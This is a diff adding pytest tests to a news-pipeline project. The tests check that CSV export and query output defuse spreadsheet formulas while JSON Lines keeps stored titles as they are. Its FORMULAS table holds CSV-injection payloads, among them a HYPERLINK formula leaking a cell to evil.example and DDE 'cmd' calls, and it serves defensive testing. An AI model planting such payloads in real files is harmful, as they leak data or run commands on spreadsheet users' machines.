@@ -9,6 +9,9 @@ Every server is real, on loopback; every warehouse a DuckDB file; `newsflow` run
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import logging
 import os
 import subprocess
@@ -18,6 +21,7 @@ from pathlib import Path
 import duckdb
 import pytest
 
+from newsflow import cli
 from newsflow.config import load_config
 from newsflow.credentials import redact_credentials_in_logs, without_credentials
 from newsflow.warehouse import migrate, run_read_query
@@ -141,3 +145,51 @@ def test_the_exit_line_starts_its_own_line_after_prefects_log_worker_left_one_op
         assert glued == [] and any(line.startswith("newsflow: the Prefect API") for line in lines), done.stderr
     else:
         assert glued, "the control no longer glues: Prefect's log worker changed, and so may this fix's need"
+
+
+# --- 3. CSV a spreadsheet opens runs no formula ---------------------------------------------------
+
+FORMULAS = {  # stored title -> the CSV cell
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1": "'\t=1+1",
+    "-5": "-5",  # a number stays a number
+    "Plain title = fine": "Plain title = fine",
+}
+
+
+def _warehouse_with_titles(tmp_path: Path) -> tuple[Path, list[str]]:
+    config_path = write_run_config(tmp_path, {"planet": "http://127.0.0.1:9/rss.xml"})
+    store = build_sample_warehouse(load_config(config_path).warehouse_path)
+    ids = [row[0] for row in run_read_query(store, "SELECT article_id FROM articles ORDER BY 1").rows]
+    with store.writing() as con:
+        for article_id, title in zip(ids, FORMULAS, strict=False):
+            con.execute("UPDATE articles SET title = ? WHERE article_id = ?", [title, article_id])
+    return config_path, ids[:len(FORMULAS)]
+
+
+def test_export_csv_defuses_formulas_and_jsonl_keeps_the_stored_text(tmp_path: Path) -> None:
+    config_path, ids = _warehouse_with_titles(tmp_path)
+    assert cli.main(["export", "--format", "csv", str(tmp_path / "out"), "--config", str(config_path)]) == 0
+    with (tmp_path / "out" / "articles.csv").open(newline="", encoding="utf-8") as handle:
+        cells = {row["article_id"]: row["title"] for row in csv.DictReader(handle)}
+    assert [cells[i] for i in ids] == list(FORMULAS.values())
+    assert cli.main(["export", "--format", "jsonl", str(tmp_path / "out"), "--config", str(config_path)]) == 0
+    lines = (tmp_path / "out" / "articles.jsonl").read_text(encoding="utf-8").splitlines()
+    titles = {record["article_id"]: record["title"] for record in map(json.loads, lines)}
+    assert [titles[i] for i in ids] == list(FORMULAS), "JSON Lines keeps every title as stored"
+
+
+def test_csv_output_of_query_defuses_formulas_and_leaves_numbers(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    config_path, ids = _warehouse_with_titles(tmp_path)
+    capsys.readouterr()
+    sql = "SELECT article_id, title, -5 AS n FROM articles"
+    assert cli.main(["query", sql, "--format", "csv", "--config", str(config_path)]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    cells = {row["article_id"]: row["title"] for row in rows}
+    assert [cells[i] for i in ids] == list(FORMULAS.values())
+    assert {row["n"] for row in rows} == {"-5"}
